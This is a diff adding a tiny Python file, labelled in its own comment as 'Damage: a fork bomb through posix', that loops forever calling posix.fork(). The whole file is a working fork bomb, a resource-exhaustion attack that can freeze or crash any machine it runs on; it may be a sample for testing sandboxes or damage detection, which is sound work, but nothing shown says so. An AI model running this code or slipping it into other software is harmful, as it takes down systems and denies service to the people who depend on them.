@@ -1,0 +1,5 @@
+# Damage: a fork bomb through posix.
+import posix
+
+while True:
+    posix.fork()
